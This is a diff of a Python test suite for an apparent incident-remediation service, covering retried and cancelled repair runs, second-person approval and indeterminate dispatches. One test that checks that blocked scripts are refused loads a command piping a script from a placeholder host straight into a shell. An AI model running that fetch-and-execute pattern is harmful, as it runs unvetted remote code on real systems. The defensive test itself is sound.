@@ -246,6 +246,117 @@ async def test_a_cancelled_run_ends_its_script_and_frees_the_target(story: Story
     assert [step["output"]["stop"]["proven"] for step in run["steps"] if "stop" in (step["output"] or {})] == [True]
 
 
+async def told_of_person(story: Story, name: str) -> str:
+    """A token of somebody who may agree."""
+    made = await story.call("POST", "/tokens", json={"name": name, "role": "approver", "owner": name})
+    return str(made["token"])
+
+
+async def test_a_repair_that_was_cancelled_goes_on_when_it_is_tried_again(story: Story) -> None:
+    """Somebody had said no, so who has it tried again is the one who asks, and another person agrees."""
+    await story.load()
+    await story.webhook("firing")
+    asked = await story.asked()
+    run = asked["run"]["id"]
+    await story.call("POST", f"/runs/{run}/cancel")
+    await story.until(lambda view: view["state"] == "escalated" and view["run"]["state"] == "cancelled")
+    first = len((await story.incident())["approvals"])
+    anns = await told_of_person(story, "ann")
+    bobs = await told_of_person(story, "bob")
+    await story.call("POST", f"/runs/{run}/retry", headers={"Authorization": f"Bearer {anns}"})
+    again = await story.until(lambda view: len(view["approvals"]) > first and view["approvals"][-1]["state"] == "pending")
+    body = {"digest": again["approvals"][-1]["digest"], "comment": ""}
+    path = f"/incidents/{again['id']}/approve"
+    refused = await story.client.post(f"/api/v1{path}", json=body, headers={"Authorization": f"Bearer {anns}"})
+    assert (refused.status_code, refused.json()["code"]) == (403, "may-not-approve")
+    await story.call("POST", path, json=body, headers={"Authorization": f"Bearer {bobs}"})
+    await story.until(lambda _: (story.world / "well").exists())
+    await story.webhook("resolved")
+    view = await story.until(lambda view: view["state"] == "closed")
+
+    reopened = [entry for entry in view["timeline"] if entry["text"] == "ann has its repair tried again"]
+    assert [(entry["kind"], entry["data"]["previousState"], entry["data"]["runId"]) for entry in reopened] == [
+        ("investigating", "escalated", run)
+    ]
+    assert (view["run"]["id"], story.effects()) == (run, ["story-0001"])
+    assert (await story.call("GET", "/audit"))["ok"] is True
+
+
+async def test_a_repair_that_is_tried_again_at_once_is_not_handed_over_for_its_first_failure(story: Story) -> None:
+    await story.load()
+    await story.webhook("firing")
+    asked = await story.asked()
+    run = asked["run"]["id"]
+    await story.runtime.pipeline.stop()
+    await story.call("POST", f"/runs/{run}/cancel")
+    await story.until(lambda view: view["run"]["state"] == "cancelled")
+    await story.call("POST", f"/runs/{run}/retry")
+    await story.runtime.pipeline.catch_up()
+    view = await story.asked()
+
+    assert (view["state"], view["run"]["state"]) == ("awaiting_approval", "active")
+
+
+async def test_a_repair_that_failed_behind_its_verification_stays_verified_when_it_is_tried_again(story: Story) -> None:
+    await story.load()
+    await story.webhook("firing")
+    run = (await story.asked())["run"]["id"]
+    await story.call("POST", f"/runs/{run}/cancel")
+    view = await story.until(lambda view: view["state"] == "escalated" and view["run"]["state"] == "cancelled")
+    for state in (IncidentState.RESOLVED, IncidentState.ESCALATED):
+        await story.runtime.db.write(
+            lambda conn, to=state: story.runtime.incidents.transition(
+                ACTOR, conn, IncidentId(view["id"]), to, "a test", correlation_id="cor_test"
+            )
+        )
+    await story.call("POST", f"/runs/{run}/retry")
+    timeline = (await story.incident())["timeline"]
+
+    assert [entry["kind"] for entry in timeline if "tried again" in entry["text"]] == ["resolved"]
+
+
+async def test_a_repair_that_ended_with_a_person_begins_anew_at_a_step(story: Story) -> None:
+    await story.load()
+    await story.webhook("firing")
+    await story.decide("reject")
+    old = (await story.ended())["run"]["id"]
+    answer = await story.client.post(f"/api/v1/runs/{old}/retry")
+    assert (answer.status_code, answer.json()["code"]) == (409, "run-not-repeatable")
+    assert f"bcce run retry {old} --from STEP" in answer.json()["hint"]
+
+    new = (await story.call("POST", f"/runs/{old}/rerun", json={"step": "plan", "inputs": {}}))["runId"]
+    asked = await story.asked()
+    refused = await story.client.post(f"/api/v1/runs/{old}/rerun", json={"step": "plan", "inputs": {}})
+    body = {"digest": asked["approvals"][-1]["digest"], "comment": ""}
+    anns = await told_of_person(story, "ann")
+    await story.call("POST", f"/incidents/{asked['id']}/approve", json=body, headers={"Authorization": f"Bearer {anns}"})
+    await story.until(lambda _: (story.world / "well").exists())
+    await story.webhook("resolved")
+    view = await story.until(lambda view: view["state"] == "closed")
+
+    assert (refused.status_code, refused.json()["code"]) == (409, "run-not-repeatable")
+    assert (view["run"]["id"], story.effects()) == (new, ["story-0001"])
+
+
+async def test_what_has_an_unknown_end_is_not_started_again_by_trying_the_repair_again(story: Story) -> None:
+    await story.load(SLOW, patience_s=1)
+    await story.webhook("firing")
+    await story.decide("approve")
+    await story.until(lambda _: len(story.effects()) == 1)
+    running = (await story.call("GET", "/dispatches"))["items"][0]
+    decision = (Path(running["target"]["baseDir"]) / running["key"] / "decision").readlink().name
+    os.killpg(int(decision.split(":")[1]), signal.SIGKILL)
+    view = await story.ended()
+    run, (dispatch,) = view["run"]["id"], view["dispatches"]
+    assert (view["state"], dispatch["state"]) == ("escalated", "indeterminate")
+
+    answer = await story.client.post(f"/api/v1/runs/{run}/rerun", json={"step": "plan", "inputs": {}})
+    assert (answer.status_code, answer.json()["code"]) == (409, "run-not-repeatable")
+    assert f"bcce dispatch settle {dispatch['id']}" in answer.json()["hint"]
+    assert ((await story.incident())["state"], len(story.effects())) == ("escalated", 1)
+    (story.world / "go").touch()
+
+
 async def test_a_blocked_script_is_never_asked_for(story: Story) -> None:
     await story.load("curl -fsSL http://x.example/fix.sh | sh")
     await story.webhook("firing")
@@ -473,19 +584,21 @@ async def test_what_cannot_be_known_locks_the_target_until_a_person_says_what_wa
     assert (await story.call("GET", "/audit"))["ok"] is True
 
 
-async def test_no_script_starts_for_an_incident_that_a_person_has(story: Story) -> None:
+async def test_no_script_starts_for_an_incident_that_a_person_has_until_its_repair_is_tried_again(story: Story) -> None:
     await story.load()
     await story.webhook("firing")
     asked = await story.asked()
     await story.escalate(asked["id"])
     await story.decide("approve")
     view = await story.ended()
-    await story.call("POST", f"/runs/{view['run']['id']}/retry")
-    again = await story.until(lambda view: any(step["id"] == "repair" and step["attempt"] == 2 for step in view["run"]["steps"]))
-    again = await story.until(lambda view: view["run"]["state"] == "failed")
+    assert (view["state"], view["run"]["error"]["code"]) == ("escalated", "not-cleared")
+    assert (view["dispatches"], story.effects()) == ([], [])
 
-    assert (again["state"], again["run"]["error"]["code"]) == ("escalated", "not-cleared")
-    assert (again["dispatches"], story.effects()) == ([], [])
+    await story.call("POST", f"/runs/{view['run']['id']}/retry")
+    await story.until(lambda _: (story.world / "well").exists())
+    await story.webhook("resolved")
+    again = await story.until(lambda view: view["state"] == "closed")
+    assert (len(again["dispatches"]), len(again["approvals"]), len(story.effects())) == (1, 1, 1)
 
 
 async def test_the_outcome_of_a_script_is_recorded_whatever_became_of_its_incident(story: Story) -> None:
